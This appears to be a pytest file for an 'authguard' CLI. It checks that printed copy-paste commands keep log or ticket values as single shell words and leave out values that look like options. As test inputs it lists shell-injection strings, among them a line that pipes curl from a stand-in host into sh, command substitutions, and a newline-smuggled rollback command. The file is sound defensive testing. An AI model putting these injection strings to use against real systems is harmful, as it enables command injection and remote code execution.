"""Commands that are printed to be copied: nothing of a log or an issuer becomes a shell command or an option."""

from __future__ import annotations

import shlex

import pytest

from authguard.cli.next_command import list_commands
from authguard.core.events import MACHINES
from authguard.policy.compiler import load

VALUES = ("x; curl evil.example | sh", "$(id)", "`id`", "a\nauthguard rollback release", "a b")
OPTIONS = ("--session=abcdef", "-y", "--ticket=abcdef")


def words_of(state: str, person: str, **record: str) -> list[list[str]]:
    policy = load("support-desk")
    states = {name: policy.initial[name] for name in MACHINES} | {"transaction": state}
    found = list_commands(policy, "support-desk", record, states, frozenset({"account", "verification"}), person)
    return [shlex.split(command) for command in found]


@pytest.mark.parametrize("state", ["held", "in_doubt", "running"])
@pytest.mark.parametrize("value", VALUES)
def test_a_hostile_id_or_name_stays_one_word(value: str, state: str) -> None:
    for words in words_of(state, value, session=value, transaction=value, ticket=value):
        assert words[0] == "authguard"
        assert value in words
        assert not {"curl", "rollback", "sh"} & set(words)


@pytest.mark.parametrize("value", OPTIONS)
def test_an_id_or_name_that_reads_as_an_option_is_left_out(value: str) -> None:
    assert words_of("held", value, session=value, transaction=value, ticket=value) == []
    (account, *_) = words_of("none", value, session="5e55")
    assert account[3:5] == ["--session", "5e55"]
